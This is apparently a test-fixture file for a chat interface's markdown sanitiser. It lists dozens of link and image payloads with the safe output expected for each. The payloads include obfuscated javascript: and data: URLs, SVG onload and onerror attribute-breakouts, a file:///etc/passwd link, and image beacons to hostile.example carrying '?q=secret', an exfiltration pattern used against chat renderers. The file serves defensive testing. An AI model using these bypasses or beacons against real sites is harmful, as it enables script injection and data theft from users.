@@ -1,0 +1,177 @@
+/** Links: only whole addresses of http, https and mailto lead anywhere, and a reader is told where. */
+import { type Group, type Payload, plain } from "./payload";
+
+const EVIL = "https://hostile.example/";
+
+/** The words of each are there, and no link. */
+const SCHEMES: Payload[] = plain({
+  javascript: "[go](javascript:pwned())",
+  "javascript in capitals": "[go](JaVaScRiPt:pwned())",
+  "javascript after blanks": "[go](<   javascript:pwned()>)",
+  "javascript with a tab": "[go](<java\tscript:pwned()>)",
+  "javascript with a tab as a reference": "[go](java&Tab;script:pwned())",
+  "javascript with a line break as a reference": "[go](java&#10;script:pwned())",
+  "javascript after a control character": "[go](\u0001javascript:pwned())",
+  "javascript after a control character as a reference": "[go](&#1;javascript:pwned())",
+  "javascript with a colon as a reference": "[go](javascript&colon;pwned())",
+  "javascript with a colon by number": "[go](javascript&#58;pwned())",
+  "javascript with zeros before the number": "[go](&#0000106avascript:pwned())",
+  "javascript in references twice": "[go](java&amp;#115;cript:pwned())",
+  "javascript in per cent": "[go](javascript%3Apwned())",
+  "javascript with an escape": "[go](java\\script:pwned())",
+  "javascript with a comment that looks like an address": "[go](javascript://hostile.example/%0apwned())",
+  "javascript with a soft hyphen": "[go](java\u00adscript:pwned())",
+  "javascript with a zero-width blank": "[go](java\u200bscript:pwned())",
+  "javascript behind a byte order mark": "[go](\ufeffjavascript:pwned())",
+  "javascript in full width": "[go](ｊａｖａｓｃｒｉｐｔ：pwned())",
+  "javascript by another's feed": "[go](feed:javascript:pwned())",
+  "the source of a page": "[go](view-source:javascript:pwned())",
+  "data as a page": "[go](data:text/html,<script>pwned()</script>)",
+  "data in base 64": "[go](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
+  "data as a drawing": "[go](DATA:image/svg+xml,<svg/onload=pwned()>)",
+  vbscript: "[go](vbscript:MsgBox(1))",
+  "a file": "[go](file:///etc/passwd)",
+  "a file of a neighbour": "[go](file://hostile.example/share/x)",
+  "a blob": "[go](blob:http://chat.test/0-0-0-0)",
+  "a file system": "[go](filesystem:http://chat.test/temporary/x.html)",
+  about: "[go](about:blank)",
+  chrome: "[go](chrome://settings)",
+  "an intent": "[go](intent://x#Intent;scheme=https;end)",
+  "another program": "[go](ms-settings:privacy) [go](tel:+4900000) [go](sms:+4900000) [go](steam://run/1)",
+  "a socket": "[go](wss://hostile.example/)",
+  ftp: "[go](ftp://hostile.example/)",
+  "the same scheme as the page": "[go](//hostile.example/)",
+  "back-slashes": "[go](\\\\\\\\hostile.example\\\\x)",
+  "a path of the page": "[go](/api/conversations/x/export) [go](./diagram.html) [go](?x) [go](#/c/x)",
+  nothing: "[go]() [go](<>)",
+  "a reference": "[go][evil]\n\n[evil]: javascript:pwned()",
+  "a reference in the text's own name": "[go][]\n\n[go]: <javascript:pwned()> 'x'",
+  "a reference that comes twice": "[go]\n\n[go]: javascript:pwned()\n[go]: https://hostile.example/",
+}).map((payload) => ({ ...payload, shows: "go" }));
+
+export const LINKS: Group = {
+  name: "links",
+  payloads: [
+    ...SCHEMES,
+    { name: "an address in angles that runs", text: "<javascript:pwned()>", shows: "pwned()" },
+    { name: "an address in angles of data", text: "<data:text/html,pwned()>", shows: "data:text/html" },
+    {
+      name: "an address that ends its attribute",
+      text: `[go](${EVIL}"onmouseover="pwned())`,
+      links: [`${EVIL}%22onmouseover=%22pwned()`],
+    },
+    {
+      name: "a title that ends its attribute",
+      text: `[go](${EVIL} "x\\" onmouseover=\\"pwned()")`,
+      links: [EVIL],
+    },
+    { name: "a title with a line break", text: `[go](${EVIL} 'x\nonmouseover=pwned()')`, links: [EVIL] },
+    {
+      name: "HTML in an address",
+      text: `[go](${EVIL}<script>pwned()</script>)`,
+      links: [`${EVIL}%3Cscript%3Epwned()%3C/script%3E`],
+    },
+    { name: "an image in a link", text: `[![x](${EVIL}i.png)](javascript:pwned())`, links: [`${EVIL}i.png`] },
+    { name: "a link in a link", text: `[a [b](javascript:pwned()) c](${EVIL})`, links: [EVIL], told: [] },
+    {
+      name: "an address without words",
+      text: `see ${EVIL}?q=secret now`,
+      links: [`${EVIL}?q=secret`],
+      told: [],
+    },
+    {
+      name: "www without a scheme",
+      text: "see www.hostile.example now",
+      links: ["http://www.hostile.example/"],
+      told: [],
+    },
+    {
+      name: "a mail address",
+      text: "ask a@hostile.example now",
+      links: ["mailto:a@hostile.example"],
+      told: [],
+    },
+    { name: "half an address", text: "[go](https:hostile.example)", links: [EVIL] },
+    { name: "one slash", text: "[go](https:/hostile.example)", links: [EVIL] },
+    { name: "too many slashes", text: "[go](https:///hostile.example)", links: [EVIL] },
+    { name: "a link over lines", text: `[go\nthere](<${EVIL}>)`, links: [EVIL] },
+    {
+      name: "a link in a table",
+      text: `| a |\n| - |\n| [go](javascript:pwned()) [go](${EVIL}) |`,
+      links: [EVIL],
+    },
+    {
+      name: "a link in a footnote",
+      text: `x[^a]\n\n[^a]: [go](javascript:pwned()) [go](${EVIL})`,
+      links: [EVIL],
+    },
+    { name: "a link in a heading", text: `# [go](data:,x) [go](${EVIL})`, links: [EVIL] },
+    { name: "a link in code", text: `\`[go](${EVIL})\``, shows: `[go](${EVIL})` },
+  ],
+};
+
+/** Images are never loaded: each is a link to where it would have come from, or words. */
+export const IMAGES: Group = {
+  name: "images",
+  payloads: [
+    { name: "with a secret", text: `![x](${EVIL}i.png?q=secret)`, links: [`${EVIL}i.png?q=secret`] },
+    { name: "by reference", text: `![x][i]\n\n[i]: ${EVIL}i.png`, links: [`${EVIL}i.png`] },
+    {
+      name: "by reference, of data",
+      text: "![x][i]\n\n[i]: data:image/svg+xml,<svg/onload=pwned()>",
+      shows: "x",
+    },
+    { name: "by its own name", text: `![i]\n\n[i]: ${EVIL}i.png`, links: [`${EVIL}i.png`] },
+    { name: "that runs", text: "![x](javascript:pwned())", shows: "x" },
+    { name: "of data", text: "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)", shows: "x" },
+    {
+      name: "of data that runs",
+      text: "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)",
+      shows: "x",
+    },
+    { name: "of a blob", text: "![x](blob:http://chat.test/1)", shows: "x" },
+    { name: "of the page", text: "![x](./icon.svg) ![y](/icon.svg)", shows: "y" },
+    { name: "by the scheme of the page", text: "![x](//hostile.example/i.png)", shows: "x" },
+    { name: "with a title", text: `![x](${EVIL}i.png '" onerror="pwned()')`, links: [`${EVIL}i.png`] },
+    {
+      name: "with HTML in its words",
+      text: `![" onerror="pwned()](${EVIL}i.png)`,
+      links: [`${EVIL}i.png`],
+      shows: "onerror",
+    },
+    {
+      name: "with an image in its words",
+      text: `![a ![b](${EVIL}b.png)](${EVIL}a.png)`,
+      links: [`${EVIL}a.png`],
+    },
+    { name: "of one pixel in HTML", text: `<img width=1 height=1 src="${EVIL}p.gif">`, shows: "<img" },
+    {
+      name: "with several sources",
+      text: `<img srcset="${EVIL}1.png 1x, ${EVIL}2.png 2x">`,
+      shows: "srcset",
+    },
+    {
+      name: "as a picture",
+      text: `<picture><source srcset="${EVIL}1.webp"><img src=x></picture>`,
+      shows: "<picture>",
+    },
+    { name: "as a button", text: `<input type=image src="${EVIL}i.png" onerror=pwned()>`, shows: "<input" },
+    {
+      name: "as the ground of a table",
+      text: `<table background="${EVIL}b.png"><tr><td>x</table>`,
+      shows: "background",
+    },
+    {
+      name: "many at once",
+      text: Array.from({ length: 60 }, (_, at) => `![${at}](${EVIL}${at}.png)`).join(" "),
+      links: Array.from({ length: 60 }, (_, at) => `${EVIL}${at}.png`),
+    },
+    {
+      name: "that is half typed",
+      text: `Look: ![x](${EVIL}i.png?q=half`,
+      shows: "hostile.example",
+      links: [`${EVIL}i.png?q=half`],
+      told: [],
+    },
+  ],
+};
